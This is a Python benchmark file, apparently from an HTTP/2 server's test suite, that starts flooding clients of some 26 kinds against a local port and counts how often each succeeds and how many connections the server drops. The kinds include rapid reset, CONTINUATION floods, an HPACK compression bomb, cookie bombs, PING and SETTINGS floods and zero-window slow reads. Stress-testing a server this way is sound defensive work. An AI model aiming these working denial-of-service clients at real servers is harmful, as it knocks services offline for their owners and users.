"""Clients of HTTP/2 that ask too much, each kind in a process of its own.

    python -m tests.bench.http2_flood_clients KIND PORT

Each goes on until its standard input ends, and opens a new connection as often as its last one is
ended. It then says how often it has done what it does, and how many of its connections were ended.
One core is the most that it takes.
"""

import contextlib
import itertools
import os
import select
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

from ..http2_frames import (
    END_STREAM,
    PADDED,
    PING,
    PREFACE,
    Kind,
    Setting,
    data,
    frame,
    heard_at,
    raw_head,
    reset,
    settings,
    window_update,
)
from .flood_clients import connected

HELD: Final = 100
"""Connections of those that hold what they have."""
BATCH: Final = 100
"""Units of what is sent at once."""
AT_ONCE: Final = 10
"""Requests that a client sends at once which respects SETTINGS_MAX_CONCURRENT_STREAMS, and half of
those that it has open."""

GET = b"\x82\x86\x41\x01h\x84"
"""GET / of http://h, without Huffman coding and without an entry in the table."""
UP = b"\x83\x86\x41\x01h\x04\x03/up"
DOWN = b"\x82\x86\x41\x01h\x04\x0e/down/10000000"


Sends = Iterator[tuple[bytes, int]]
"""Bytes, and how often they do it."""


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def each(unit: Callable[[int], bytes], batch: int = BATCH) -> Callable[[], Sends]:
    """The same with one stream after the other."""

    def sends() -> Sends:
        numbers = streams()
        while True:
            yield b"".join(unit(next(numbers)) for _ in range(batch)), batch

    return sends


def again(unit: bytes, first: bytes = b"") -> Callable[[], Sends]:
    """The same for ever, behind `first`."""

    def sends() -> Sends:
        yield first, 0
        while True:
            yield unit * BATCH, BATCH

    return sends


def dribbles() -> Sends:
    """Responses without a window, which then get a byte each."""
    yield settings((Setting.INITIAL_WINDOW_SIZE, 0)), 0
    yield b"".join(raw_head(DOWN, stream) for stream in range(1, 100, 2)), 0
    while True:
        yield b"".join(window_update(stream, 1) for stream in range(1, 100, 2)), 50


def bomb(stream: int) -> bytes:
    """An entry of 3,900 bytes, and 4,000 references to it: 16 MB in 8 KB."""
    value = b"\x40\x01a\x7f\xbd\x1d" + b"x" * 3_900
    return raw_head(GET + value + b"\xbe" * 4_000, stream)


def cookies(stream: int) -> bytes:
    """3,000 crumbs, the entry of a table each."""
    return raw_head(GET + b"\x60\x03a=b" + b"\xbe" * 3_000, stream)


def held(first: bytes, then: bytes = b"") -> Callable[[], Sends]:
    """Says something once a second, and nothing else."""

    def sends() -> Sends:
        yield first, 1
        while True:
            yield then, 0

    return sends


@dataclass(frozen=True)
class Attack:
    says: str
    """What it does, for a table."""
    sends: Callable[[], Sends]
    reads: bool = True
    connections: int = 1
    """How many at once. If more, each is slow."""
    goes_on: bool = False
    """Whether its connections are not ended: it costs no more than others pay, or is a matter of
    time."""
    most_open: int = 0
    """Requests behind which it waits for answers; 0: it does not count."""


PADDING = frame(Kind.DATA, PADDED, 1, b"\xff" + bytes(255))
OPEN_UPLOAD = raw_head(UP, 1, end=False)
BEGUN = frame(Kind.HEADERS, END_STREAM, 1, GET)
MANY_DOWN = b"".join(raw_head(DOWN, stream) for stream in range(1, 200, 2))
MANY_UP = b"".join(
    raw_head(UP, stream, end=False) + data(stream, b"x") for stream in range(1, 200, 2)
)
MANY_SETTINGS = settings(*[(Setting.INITIAL_WINDOW_SIZE, 4_096)] * 32)
NO_WINDOW = settings((Setting.INITIAL_WINDOW_SIZE, 0))

ATTACKS: Final[dict[str, Attack]] = {
    "requests": Attack(
        "plain requests, for comparison",
        each(lambda n: raw_head(GET, n), AT_ONCE),
        goes_on=True,
        most_open=2 * AT_ONCE,
    ),
    "rapid reset": Attack(
        "requests that are cancelled at once", each(lambda n: raw_head(GET, n) + reset(n))
    ),
    "made reset": Attack(
        "requests with DATA behind their end, which is answered by RST_STREAM",
        each(lambda n: raw_head(GET, n) + data(n, b"x")),
    ),
    "malformed": Attack(
        "requests with a field in upper case", each(lambda n: raw_head(GET + b"\0\x01A\x01b", n))
    ),
    "too many streams": Attack(
        "uploads that do not go on", each(lambda n: raw_head(UP, n, end=False))
    ),
    "continuation": Attack(
        "a head with CONTINUATIONs without end",
        again(frame(Kind.CONTINUATION, 0, 1), BEGUN),
    ),
    "large continuation": Attack(
        "a head with CONTINUATIONs of 16 KiB",
        again(frame(Kind.CONTINUATION, 0, 1, bytes(16_384)), BEGUN),
    ),
    "compression bomb": Attack("heads of 16 MB in 8 KB", each(bomb)),
    "cookies": Attack("heads with 3,000 cookies", each(cookies)),
    "empty data": Attack("an upload of empty DATA", again(data(1, b""), OPEN_UPLOAD)),
    "padding": Attack("an upload of padding", again(PADDING, OPEN_UPLOAD)),
    "small data": Attack(
        "an upload of a byte for each DATA", again(data(1, b"x"), OPEN_UPLOAD), goes_on=True
    ),
    "ping": Attack("PING", again(PING)),
    "unread ping": Attack("PING, without reading the answers", again(PING), reads=False),
    "settings": Attack("SETTINGS", again(settings())),
    "many settings": Attack("SETTINGS with 32 entries", again(MANY_SETTINGS)),
    "window update": Attack("WINDOW_UPDATE of a byte", again(window_update(0, 1))),
    "dribble": Attack("windows of a byte for 50 responses", dribbles),
    "priority": Attack("PRIORITY", again(frame(Kind.PRIORITY, 0, 1, bytes(5)))),
    "priority update": Attack(
        "PRIORITY_UPDATE of streams that are not open",
        each(lambda n: frame(Kind.PRIORITY_UPDATE, 0, 0, n.to_bytes(4, "big") + b"u=1")),
    ),
    "late reset": Attack(
        "RST_STREAM of a stream that has ended", again(reset(1), raw_head(GET, 1) + reset(1))
    ),
    "goaway": Attack("GOAWAY", again(frame(Kind.GOAWAY, 0, 0, bytes(8)))),
    "unknown frames": Attack("frames of an unknown kind", again(frame(0xBB, 0, 0, b"x"))),
    "unread responses": Attack(
        "100 responses that are not read", held(MANY_DOWN), reads=False, goes_on=True
    ),
    "no window": Attack(
        f"100 responses without a window, on {HELD} connections",
        held(NO_WINDOW + MANY_DOWN),
        goes_on=True,
        connections=HELD,
    ),
    "uploads without end": Attack(
        f"100 uploads of a byte, on {HELD} connections",
        held(MANY_UP, PING),
        goes_on=True,
        connections=HELD,
    ),
}


class Client:
    """One connection of an attack after the other."""

    def __init__(self, attack: Attack, port: int) -> None:
        self.attack, self.port = attack, port
        self.done = self.ended = 0
        self.sock: socket.socket | None = None
        self._left = b""
        self._count = 0
        self._open = 0
        self._heard = b""

    def open(self) -> socket.socket:
        self.sock = sock = connected(self.port)
        self._sends = self.attack.sends()
        self._left = PREFACE + settings()
        if self.attack.most_open:
            self._left += window_update(0, 2**31 - 1 - 65_535)
        self._count = self._open = 0
        self._heard = b""
        sock.setblocking(False)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return sock

    @property
    def may_send(self) -> bool:
        most = self.attack.most_open
        return not most or bool(self._left) or self._open + AT_ONCE <= most

    def send(self) -> None:
        assert self.sock is not None
        if not self._left:
            self.done += self._count
            self._left, self._count = next(self._sends)
            self._open += self._count
        if self._left:
            self._left = self._left[self.sock.send(self._left) :]

    def receive(self) -> None:
        assert self.sock is not None
        data = self.sock.recv(1 << 20)
        if not data:
            raise ConnectionResetError
        if self.attack.most_open:
            self._count_ends(data)

    def _count_ends(self, data: bytes) -> None:
        """Leaves a connection that has had all its requests, and then has another."""
        self._heard += data
        at = 0
        while (frame := heard_at(self._heard, at)) is not None:
            at += frame.size
            if frame.kind == Kind.GOAWAY and self.sock is not None:
                self.sock.close()
                self.sock = None
                return
            self._open -= frame.kind in (Kind.HEADERS, Kind.DATA) and frame.flags & END_STREAM
        self._heard = self._heard[at:]

    def close(self) -> None:
        if self.sock is not None:
            self.sock.close()
            self.sock = None
            self.ended += 1


def run(attack: Attack, port: int, over: Callable[[], bool]) -> tuple[int, int]:
    """Returns how often it was done, and how many connections were ended."""
    clients = [Client(attack, port) for _ in range(attack.connections)]
    while not over():
        ready = list[tuple[socket.socket, Client]]()
        for client in clients:
            with contextlib.suppress(OSError):
                ready.append((client.sock or client.open(), client))
        poll = select.poll()
        by_fd = dict[int, Client]()
        for sock, client in ready:
            by_fd[sock.fileno()] = client
            reads = select.POLLIN if attack.reads else 0
            poll.register(sock, reads | (select.POLLOUT if client.may_send else 0))
        for fd, events in poll.poll(100):
            client = by_fd[fd]
            try:
                if events & (select.POLLERR | select.POLLHUP):
                    raise ConnectionResetError
                if events & select.POLLIN:
                    client.receive()
                elif events & select.POLLOUT:
                    client.send()
            except BlockingIOError:
                pass
            except OSError:
                client.close()
                time.sleep(0.01)
        if attack.connections > 1 or attack.sends.__qualname__.startswith("held"):
            time.sleep(0.1)
    ended = sum(client.ended for client in clients)
    for client in clients:
        client.close()
    return sum(client.done for client in clients), ended


def main() -> None:
    kind, port = sys.argv[1], int(sys.argv[2])
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    ended = threading.Event()

    def wait_for_end() -> None:
        os.read(0, 1)
        ended.set()

    threading.Thread(target=wait_for_end, daemon=True).start()
    print(*run(ATTACKS[kind], port, ended.is_set), flush=True)


if __name__ == "__main__":
    main()
